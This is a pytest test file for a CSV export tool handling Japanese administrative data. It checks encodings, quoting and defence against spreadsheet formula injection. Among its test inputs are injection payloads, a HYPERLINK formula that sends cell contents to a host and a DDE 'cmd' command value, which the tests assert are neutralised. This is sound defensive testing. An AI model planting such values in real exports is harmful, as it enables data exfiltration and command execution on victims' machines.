"""The table that leaves is CSV as every program reads it, and no program reads more into it."""

from pathlib import Path

import pytest
from cut_tables import Made, carry_out, changed, refusal, write_table

from sekisho.errors import Refused

# One column of free text beside the subject's: what is put in comes out.
ONE = """
schema = 1
purpose = { id = "one", title = "t", legal_basis = "test", profile = "rows", not_after = 2022-09-30, kinds = ["free_text", "case_number"], controller = { name = "c", kind = "other" }, recipient = { id = "r" } }
rows = { from = "a" }
source.a = { path = "a.csv", columns = ["統一コード", "備考"], subject = { column = "統一コード" } }
output = { encoding = "utf-8" }
[[field]]
out = "備考"
from = "備考"
op = "keep"
kind = "free_text"
why = "w"
"""
NUMBERED = ONE + '[[field]]\nout = "整理番号"\nfrom = "統一コード"\nop = "token.serial"\nwhy = "w"\n'


def kept(folder: Path, *cells: str, text: str = NUMBERED) -> Made:
    """Carry out a purpose that keeps one column."""
    write_table(
        folder / "a.csv", [("統一コード", "備考"), *((f"{place:04d}", cell) for place, cell in enumerate(cells))]
    )
    return carry_out(folder, text)


@pytest.mark.parametrize(
    "cell",
    [
        "00012",
        "０００１２",
        " x ",
        "　",
        'a "b" c',
        '"',
        "a,b",
        "a\nb",
        "a\r\nb",
        "\ra",
        "髙﨑",
        "が",
        "か\u3099",
        "①㈱Ⅲ",
        "𠮷",
        "x" * 9000,
    ],
)
def test_a_cell_arrives_as_it_stands_in_the_source(tmp_path: Path, cell: str) -> None:
    shown = f"'{cell}" if cell.startswith("\r") else cell
    assert kept(tmp_path, "first", cell, "last").column("備考") == ["first", shown, "last"]


def test_nothing_and_an_empty_text_are_both_empty_to_who_reads_it(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text('統一コード,備考\n1,\n2,""\n3,x\n', encoding="utf-8")
    assert carry_out(tmp_path, NUMBERED).column("備考") == ["", "", "x"]


def test_a_table_of_one_column_keeps_its_empty_rows(tmp_path: Path) -> None:
    """A blank line would be no row to most programs."""
    made = kept(tmp_path, "x", "", "y", text=ONE)
    assert made.data.decode() == '備考\r\nx\r\n""\r\ny\r\n'
    assert made.counters.rows_out == len(made.rows()) - 1


def test_a_header_may_hold_what_a_cell_may(tmp_path: Path) -> None:
    text = changed(NUMBERED, ('out = "備考"', 'out = "備,考 \\"x\\""'))
    assert kept(tmp_path, "x", text=text).rows()[0] == ['備,考 "x"', "整理番号"]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://x/?"&A1)',
        "+81-6-1111",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\n",
        "-",
        "=",
        "-5\n=1",
    ],
)
def test_no_cell_is_a_formula_to_a_spreadsheet(tmp_path: Path, cell: str) -> None:
    """CWE-1236: the name somebody gave an applicant would be carried out at the call centre."""
    (shown,) = kept(tmp_path, cell).column("備考")
    assert shown == (cell if cell == "-" else f"'{cell}")


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+x", "-x", "@x"])
def test_no_header_is_one_either(tmp_path: Path, name: str) -> None:
    """A purpose may be written by whoever the work was given to."""
    made = kept(tmp_path, "x", text=changed(NUMBERED, ('out = "備考"', f'out = "{name}"')))
    assert made.rows()[0] == [f"'{name}", "整理番号"]


def test_a_header_that_is_guarded_is_not_taken_for_another(tmp_path: Path) -> None:
    text = changed(NUMBERED, ('out = "備考"', 'out = "=a"'), ('out = "整理番号"', 'out = "\'=a"'))
    assert kept(tmp_path, "x", text=text).rows()[0] == ["'=a", "'=a"]


@pytest.mark.parametrize(
    "cell", ["-5", "+5", "-0.50", "-.5", "0", "12", "－", "＊＊＊123", "a=1", "'=1", "〒660", "ー"]
)
def test_a_number_and_other_text_stand_as_they_are(tmp_path: Path, cell: str) -> None:
    assert kept(tmp_path, cell).column("備考") == [cell]


CP932 = changed(NUMBERED, ('encoding = "utf-8"', 'encoding = "cp932"'))


@pytest.mark.parametrize("cell", ["髙﨑", "①㈱Ⅲ", "～", "－", "ｱｲｳ", "ソ表能", "\ue000"])
def test_what_a_windows_machine_can_write_leaves_in_its_encoding(tmp_path: Path, cell: str) -> None:
    """Extended and private characters stay."""
    assert [row[0] for row in kept(tmp_path, "x", cell, text=CP932).rows("cp932")][1:] == ["x", cell]


def test_the_six_signs_that_have_a_twin_in_cp932_are_written_as_that(tmp_path: Path) -> None:
    """Unicode has two of each; every program that reads CP932 gives the wide one."""
    made = kept(tmp_path, "〜−‖¢£¬", text=CP932)
    assert made.rows("cp932")[1][0] == "～－∥￠￡￢"


@pytest.mark.parametrize("cell", ["𠮷田", "か\u3099", "葛\U000e0100城", "😀", "한", "é", "¥"])
def test_what_the_encoding_cannot_hold_is_refused_by_field_and_number(tmp_path: Path, cell: str) -> None:
    """Never a question mark in somebody's name, and never the name in the message."""
    problem = refusal(lambda: kept(tmp_path, "x", cell, f"{cell}様", "", text=CP932))
    assert (type(problem), problem.key) == (Refused, "cut.unmappable")
    assert problem.values == {"encoding": "cp932", "fields": "備考: 2", "row": 3}


def test_a_header_that_the_encoding_cannot_hold_is_refused_by_its_name(tmp_path: Path) -> None:
    problem = refusal(lambda: kept(tmp_path, "x", text=changed(CP932, ('out = "備考"', 'out = "備考😀"'))))
    assert (problem.values["fields"], problem.values["row"]) == ("備考😀: 1", 1)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932", "euc_jp", "utf-16"])
def test_the_encoding_of_the_source_does_not_show(tmp_path: Path, encoding: str) -> None:
    rows = [
        ("統一コード", "備考"),
        ("0001", "髙﨑　一郎" if encoding != "euc_jp" else "高崎　一郎"),
        ("0002", "表十ソ"),
    ]
    write_table(tmp_path / "a.csv", rows, encoding)
    assert carry_out(tmp_path, NUMBERED).column("備考") == [row[1] for row in rows[1:]]


VARIANT = changed(CP932, ('encoding = "cp932"', 'encoding = "cp932", unmappable = "variant"'))


def test_a_variant_is_written_where_the_purpose_says_so_and_counted(tmp_path: Path) -> None:
    """What cp932 has, 髙 and the office's own signs among it, stays."""
    made = kept(tmp_path, "𠮷田𠮷", "髙\ue000", "葛\U000e0100城", text=VARIANT)
    assert [row[0] for row in made.rows("cp932")][1:] == ["吉田吉", "髙\ue000", "葛城"]
    assert (made.counters.replaced["備考"], made.counters.private["備考"]) == (3, 1)


def test_what_has_no_variant_is_refused_even_there(tmp_path: Path) -> None:
    problem = refusal(lambda: kept(tmp_path, "𠮷", "😀", text=VARIANT))
    assert problem.values == {"encoding": "cp932", "fields": "備考: 1", "row": 3}


def test_a_mark_and_newlines_are_as_the_purpose_says(tmp_path: Path) -> None:
    wanted = changed(NUMBERED, ('encoding = "utf-8"', 'encoding = "utf-8", mark = true, newline = "lf"'))
    made = kept(tmp_path, "a\r\nb", text=wanted)
    assert made.data.startswith("\ufeff備考,整理番号\n".encode())
    assert made.data.count(b"\r") == 1  # the cell's own
